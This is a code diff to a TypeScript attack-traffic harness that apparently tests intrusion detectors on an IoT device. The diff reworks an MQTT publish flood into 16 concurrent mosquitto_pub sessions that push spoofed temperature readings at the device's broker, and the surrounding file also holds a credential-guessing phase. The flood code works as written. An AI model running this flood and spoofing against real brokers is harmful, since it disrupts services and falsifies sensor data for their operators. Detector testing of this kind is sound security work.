@@ -159,9 +159,14 @@ function credentialGuessing(plan: AttackPlan, attempts: number, timeLimitMs: num
   };
 }
 
-/** MQTT publish flood: four clients on the attacker address pushing `messages` publishes as fast as they go. */
+/**
+ * MQTT publish flood: 16 sessions on the attacker address, four at a time, each pushing its share of
+ * `messages` spoofed readings as fast as the broker takes them — many sessions, so a connection-level
+ * detector sees more than one record of it.
+ */
 function mqttFlood(plan: AttackPlan, messages: number, timeLimitMs: number): AttackPhase {
-  const perClient = Math.ceil(messages / 4);
+  const sessions = 16;
+  const perSession = Math.ceil(messages / sessions);
   const args = (i: number): string[] => [
     '-h',
     plan.device,
@@ -179,26 +184,31 @@ function mqttFlood(plan: AttackPlan, messages: number, timeLimitMs: number): Att
     name: 'mqtt-flood',
     tool: 'mosquitto_pub',
     ports: String(DEVICE_PORTS.mqtt),
-    bound: perClient * 4,
-    command: `4 x (mosquitto_pub ${args(0).join(' ')}) fed ${perClient} lines each`,
+    bound: perSession * sessions,
+    command: `${sessions} x (mosquitto_pub ${args(0).join(' ')}) fed ${perSession} lines each, 4 at a time`,
     timeLimitMs,
     async run(children) {
-      const codes = await Promise.all(
-        [0, 1, 2, 3].map(async (i) => {
+      const deadline = Date.now() + timeLimitMs;
+      const codes: Array<number | null> = [];
+      let next = 0;
+      const worker = async (): Promise<void> => {
+        while (next < sessions && Date.now() < deadline) {
+          const i = next++;
           const pub = children.start(`mqtt-flood-${i}`, 'mosquitto_pub', args(i), {
             stdio: ['pipe', 'ignore', 'ignore'],
           });
-          const timer = setTimeout(() => void children.stop(pub), timeLimitMs);
+          const timer = setTimeout(() => void children.stop(pub), Math.max(0, deadline - Date.now()));
           const stdin = pub.child.stdin as Writable;
           stdin.on('error', () => undefined); // the broker or the time limit may cut it; the exit code says so
           const line = `${'{"sensor":0,"temperature":-999}'.padEnd(64, ' ')}\n`;
-          stdin.end(line.repeat(perClient));
-          const { code } = await pub.exited;
+          stdin.end(line.repeat(perSession));
+          codes.push((await pub.exited).code);
           clearTimeout(timer);
-          return code;
-        }),
-      );
-      return codes.every((c) => c === 0) ? 0 : (codes.find((c) => c !== 0) ?? null);
+        }
+      };
+      await Promise.all([worker(), worker(), worker(), worker()]);
+      if (codes.length < sessions) return null;
+      return codes.find((c) => c !== 0) ?? 0;
     },
   };
 }
